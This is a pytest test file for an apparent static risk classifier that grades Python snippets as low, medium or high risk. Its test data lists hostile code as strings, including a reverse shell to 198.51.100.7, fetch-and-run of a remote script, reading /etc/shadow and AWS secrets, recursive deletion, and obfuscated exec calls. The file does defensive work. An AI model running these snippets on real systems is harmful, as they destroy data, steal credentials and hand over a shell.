"""Laws of reading Python."""

import pytest

from workbench.facts.code import python
from workbench.facts.floor import static_risk
from workbench.facts.scope import Limits, Scope

LIMITS = Limits(time_ms=60_000)

SYSTEM = [
    ("wipe = getattr(__import__('shutil'), 'rmtree')\nwipe('/srv/carts')", "high"),
    ("list(map(os.remove, glob.glob('/srv/carts/*')))", "high"),
    ("ec2.terminate_instances(InstanceIds=['i-1'])", "high"),
    ("print(os.getenv('AWS_SECRET_ACCESS_KEY'))", "high"),
    ("print(os.environ['HOME'])", "low"),
    ("print(settings.SECRET_KEY)", "high"),
    ("for cart in Cart.objects.all():\n    cart.delete()", "high"),
    ("for cart in Cart.objects.filter(owner=7):\n    cart.delete()", "medium"),
    ("for p in Path('/srv/carts').rglob('*'): p.unlink()", "high"),
    ("Path('old.txt').unlink()", "medium"),
    ("Path('/etc/hosts').write_text('')", "high"),
    ("open('/dev/sdb', 'wb').write(image)", "high"),
    ("open('/dev/null', 'w').write('x')", "low"),
    ("os.kill(-1, 9)", "high"),
    ("urllib.request.urlretrieve('https://example.com/t.py', 't.py')\nos.system('python t.py')", "high"),
    ("import math\nprint(math.sqrt(2))", "low"),
    ("print('os.system(\"rm -rf /\")')", "low"),
    ("# os.system('rm -rf /')\nx = 1", "low"),
    ("import os\nprint(os.listdir('.'))", "low"),
    ("import os\nprint(os.environ)", "medium"),
    ("import os\nos.remove('a.txt')", "medium"),
    ("import os, glob\nfor f in glob.glob('*.log'):\n    os.remove(f)", "high"),
    ("import shutil\nshutil.rmtree('/srv/data')", "high"),
    ("from shutil import rmtree as r\nr('/srv/data')", "high"),
    ("import os\nos.system('ls -l')", "low"),
    ("import os\nos.system('rm -rf /srv/data')", "high"),
    ("import subprocess\nsubprocess.run(['rm', '-rf', '/srv/data'])", "high"),
    ("import subprocess\nsubprocess.run(command, shell=True)", "high"),
    ("getattr(__import__('os'), 'sys' + 'tem')('rm -rf /srv/data')", "high"),
    ("open('notes.txt', 'w').write('x')", "medium"),
    ("open('/etc/cron.d/x', 'w').write('x')", "high"),
    ("open('notes.txt').read()", "low"),
    ("print(open('/etc/shadow').read())", "high"),
    ("exec('print(1)')", "low"),
    ("exec(input())", "high"),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "high"),
    ("import pickle\npickle.loads(data)", "high"),
    ("import requests\nrequests.get('https://example.com')", "medium"),
    ("import requests\nrequests.post('https://example.com', files={'f': open('dump.sql')})", "high"),
    ("import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 1))\nos.dup2(s.fileno(), 0)\n"
     "subprocess.call(['/bin/sh', '-i'])", "high"),
    ("def wipe():\n    import shutil\n    shutil.rmtree('/srv/data')", "medium"),
    ("def wipe():\n    import shutil\n    shutil.rmtree('/srv/data')\nwipe()", "high"),
    ("!rm -rf /srv/data", "high"),
    (">>> 1 + 1\n2\n>>> import shutil; shutil.rmtree('/srv/data')", "high"),
]  # fmt: skip
STORES = [
    ("Cart.objects.filter(owner=7)", "low"),
    ("Cart.objects.get(pk=7)", "low"),
    ("Cart.objects.all()[:5]", "low"),
    ("Cart.objects.all().count()", "low"),
    ("for c in Cart.objects.all():\n    print(c)", "medium"),
    ("Cart.objects.create(owner=7)", "medium"),
    ("cart.save()", "medium"),
    ("Cart.objects.filter(owner=7).delete()", "medium"),
    ("Cart.objects.all().delete()", "high"),
    ("Cart.objects.filter(owner=7).update(state='x')", "medium"),
    ("Cart.objects.update(state='x')", "high"),
    ("User.objects.create_superuser('eve', 'e@example.com', 'x')", "high"),
    ("user.is_superuser = True\nuser.save()", "high"),
    ("class Cart(models.Model):\n    owner = models.IntegerField()", "low"),
    ("cursor.execute('DROP TABLE carts')", "high"),
    ("cursor.execute('SELECT id FROM carts WHERE id = %s', [7])", "low"),
    ("cursor.execute(statement)", "medium"),
    ("db.carts.delete_many({})", "high"),
    ("db.carts.delete_many({'owner': 7})", "medium"),
    ("import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", "high"),
    ("import boto3\nboto3.client('s3').list_buckets()", "low"),
    ("op.add_column('carts', sa.Column('x', sa.Integer))", "medium"),
    ("op.drop_table('carts')", "high"),
]


@pytest.mark.parametrize(("text", "risk"), SYSTEM + STORES)
def test_python_is_judged_by_what_its_calls_do(text: str, risk: str) -> None:
    """Calls decide, through imports, aliases and built names; what is only defined counts a level less."""
    assert static_risk(text, "python", limits=LIMITS).risk.value == risk


def test_a_typo_does_not_hide_a_call() -> None:
    """Text that does not parse is read by the names it calls."""
    assert static_risk("import shutil\nif x\n  shutil.rmtree('/srv'", "python", limits=LIMITS).risk.value == "high"


@pytest.mark.parametrize(
    "text",
    [
        "(" * 30_000,
        "a" + ".a" * 30_000 + "()",
        "x = " + "1+" * 20_000 + "1",
        "\x00",
        "f" * 60_000,
        "a(" * 9000,
        "-" * 60_000 + "1",
        "'''" * 9001,
    ],
)
def test_hostile_python_is_read_to_its_end(text: str) -> None:
    """No text raises."""
    assert isinstance(python.read(text, "python", Scope(lambda *_: [], Limits())), list)
